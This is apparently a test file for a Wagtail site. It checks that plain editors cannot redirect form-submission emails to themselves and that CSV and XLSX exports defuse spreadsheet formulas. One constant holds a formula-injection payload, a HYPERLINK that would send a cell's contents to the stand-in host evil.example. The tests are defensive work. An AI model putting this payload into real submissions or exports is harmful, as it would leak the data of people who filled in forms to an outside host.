"""Who may set where a form page's submissions are emailed, and what its downloads hold.

Whoever sets `to_address` receives every submission by email, so an editor
who may not read submissions in the admin must not be able to point them
at themselves.
"""

import pytest
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text

from core.organisers import ORGANISERS_GROUP
from tests.conftest import make_user
from tests.core.spreadsheets import read_csv_download, read_xlsx_download
from tests.form_pages.factories import FormFieldFactory, FormPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Read more")'


@pytest.fixture
def form_page(home_page, site_settings):
    return FormPageFactory(parent=home_page, title="Get involved", slug="get-involved")


def edit_url(page):
    return f"/admin/pages/{page.pk}/edit/"


def save_draft(client, page, to_address):
    data = nested_form_data(
        {
            "title": page.title,
            "slug": page.slug,
            "intro": rich_text("<p>Join us.</p>"),
            "form_fields": inline_formset([]),
            "submit_label": "Send",
            "thank_you_text": rich_text("<p>Thanks.</p>"),
            "to_address": to_address,
            "subject": "Someone wants to join",
            "comments": inline_formset([]),
        }
    )
    return client.post(edit_url(page), data)


def saved_to_address(page):
    """The address in the draft just saved (the page's latest revision)."""
    page.refresh_from_db()
    assert page.revisions.count() == 1, "the draft was not saved"
    return page.get_latest_revision_as_object().to_address


def test_a_plain_editor_cannot_redirect_submissions(client, editor, form_page):
    client.force_login(editor)
    html = client.get(edit_url(form_page)).content.decode()
    assert 'name="subject"' in html
    assert 'name="to_address"' not in html

    response = save_draft(client, form_page, "me@attacker.example")

    assert response.status_code == 302
    assert saved_to_address(form_page) == "organisers@example.org"


def test_an_organiser_who_edits_pages_sets_the_address(client, form_page):
    organiser_editor = make_user("orged", groups=["Editors", ORGANISERS_GROUP])
    client.force_login(organiser_editor)
    assert 'name="to_address"' in client.get(edit_url(form_page)).content.decode()

    response = save_draft(client, form_page, "new-organisers@example.org")

    assert response.status_code == 302
    assert saved_to_address(form_page) == "new-organisers@example.org"


@pytest.fixture
def submitted(client, form_page):
    FormFieldFactory(page=form_page, label="Your name", field_type="singleline", sort_order=0)
    FormFieldFactory(page=form_page, label="Message", field_type="multiline", sort_order=1)
    assert client.post(form_page.url, {"your_name": "Zoë", "message": FORMULA, "website": ""}).status_code == 200
    client.force_login(make_user("reader", groups=[ORGANISERS_GROUP, "Editors"]))
    return f"/admin/forms/submissions/{form_page.pk}/"


def test_submissions_csv_defuses_formulas_and_keeps_accents(client, submitted):
    [row] = read_csv_download(client.get(submitted, {"export": "csv"}))
    assert row["Your name"] == "Zoë"
    assert row["Message"] == "'" + FORMULA


def test_submissions_xlsx_defuses_formulas(client, submitted):
    headings, row = read_xlsx_download(client.get(submitted, {"export": "xlsx"}))
    assert row[headings.index("Message")] == "'" + FORMULA
